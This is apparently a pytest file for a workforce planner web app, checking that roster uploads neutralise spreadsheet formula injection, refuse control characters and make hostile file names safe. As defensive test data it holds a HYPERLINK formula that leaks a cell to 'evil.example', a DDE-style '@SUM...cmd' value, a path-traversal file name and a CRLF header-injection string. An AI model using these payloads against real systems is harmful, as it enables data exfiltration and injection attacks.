"""Attacks on the roster upload and edit (issue 13): formula injection through roster cells comes back
neutralised in every download (F7), control characters are refused naming file, row and column (F7), and
hostile upload file names are made safe instead of failing with HTTP 500 (F8)."""

from __future__ import annotations

import csv
import io

import openpyxl
import test_planner_pages
from test_planner_pages import HEADER, _post_form, _upload

from conftest import csrf_from
from gpcluster.web.filenames import content_disposition, safe_upload_name

planner_app, client_as = test_planner_pages.planner_app, test_planner_pages.client_as  # the planner fixtures

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'


def test_formula_in_a_roster_cell_is_neutralised_in_csv_excel_and_roster_export(client_as):
    client = client_as("national")
    token = csrf_from(client.get("/plan/roster").text)
    roster = HEADER + f'\nINJ-1,pharmacist,1.0,"{FORMULA.replace(chr(34), chr(34) * 2)}",10001,10001:5,2024-01-01,,@SUM(1+1)*cmd,1\n'
    assert _upload(client, "evil.csv", roster, token).status_code == 200
    rows = list(csv.DictReader(io.StringIO(client.get("/plan/download/roster.csv").text, newline="")))
    assert rows[0]["employer"] == "'" + FORMULA and rows[0]["line_manager"] == "'@SUM(1+1)*cmd"
    book = openpyxl.load_workbook(io.BytesIO(client.get("/plan/download/roster.xlsx").content))
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    employer = sheet.cell(row=2, column=header.index("employer") + 1)
    assert employer.data_type == "s" and employer.value == "'" + FORMULA  # text, never a live formula
    wte = sheet.cell(row=2, column=header.index("wte") + 1)
    assert wte.data_type == "n" and wte.value == 1
    exported = list(csv.DictReader(io.StringIO(client.get("/plan/roster/export.csv").text, newline="")))
    assert exported[0]["employer"] == "'" + FORMULA


def test_control_characters_in_an_upload_are_refused_naming_row_and_column(client_as):
    client = client_as("national")
    token = csrf_from(client.get("/plan/roster").text)
    roster = (HEADER + "\nCTRL-1,pharmacist,1.0,S37000007,10001,10001:5,2024-01-01,,lead\x07 pharmacist,1"
              "\nCTRL-2,pharmacist,1.0,Health\u202eboard,10001,10001:4,2024-01-01,,lead,1\n")
    page = _upload(client, "ctrl.csv", roster, token)
    assert page.status_code == 422 and "nothing was loaded" in page.text and "ctrl.csv" in page.text
    problems = page.text.split('id="problems-h"')[1].split("</table>")[0]
    assert '<td class="num">2</td><td>line_manager</td>' in problems and "U+0007" in problems
    assert '<td class="num">3</td><td>employer</td>' in problems and "U+202E" in problems
    assert "\x07" not in page.text and "\u202e" not in page.text  # never echoed back
    assert "CTRL-1" not in client.get("/plan/roster").text


def test_control_characters_in_an_edited_post_are_refused_naming_the_field(client_as):
    client = client_as("national")
    token = csrf_from(client.get("/plan/roster/post?post_id=PH-E1").text)
    page = client.post("/plan/roster/post", data=_post_form(employer="NHS\x1b[31mTayside", csrf_token=token))
    assert page.status_code == 422 and "<td>employer</td>" in page.text and "U+001B" in page.text


def test_a_300_character_file_name_is_shortened_not_a_server_error(client_as):
    client = client_as("national")
    token = csrf_from(client.get("/plan/roster").text)
    long_name = "r" * 300 + ".csv"
    page = _upload(client, long_name, HEADER + "\nX-1,surgeon,1.0,S37000007,,10001:5,2024-01-01,,,\n", token)
    assert page.status_code == 422 and "surgeon" in page.text  # validated as usual, under a safe name
    assert "r" * 80 + ".csv" in page.text and "r" * 81 not in page.text
    hostile = _upload(client, '../../etc/"passwd\r\n<b>.csv', HEADER + "\nX-1,surgeon,1,S37000007,,10001:5,2024-01-01,,,\n", token)
    assert hostile.status_code == 422 and "etc" not in hostile.text.split('id="problems-h"')[1].split("</h2>")[0]
    assert "<b>" not in hostile.text


def test_upload_names_keep_letters_and_drop_paths_and_controls():
    assert safe_upload_name("C:\\Users\\cql\\Rota – Lothian (v2).xlsx", "roster.csv") == "Rota _ Lothian (v2).xlsx"
    assert safe_upload_name("/tmp/../../roster.csv", "roster.csv") == "roster.csv"
    assert safe_upload_name("..", "roster.csv") == "roster.csv"
    assert safe_upload_name("a\x00b\u202e.csv", "x") == "a_b.csv"
    assert safe_upload_name(None, "roster.csv") == "roster.csv"


def test_content_disposition_cannot_be_broken_by_the_name():
    header = content_disposition('evil"; filename="x.exe\r\nSet-Cookie: a=b.csv')
    assert "\r" not in header and "\n" not in header
    assert header.startswith('attachment; filename="evil- filename-x.exe-Set-Cookie- a-b.csv"; filename*=UTF-8\'\'')
    assert content_disposition("gpcluster-plan-equity.csv") == (
        "attachment; filename=\"gpcluster-plan-equity.csv\"; filename*=UTF-8''gpcluster-plan-equity.csv")
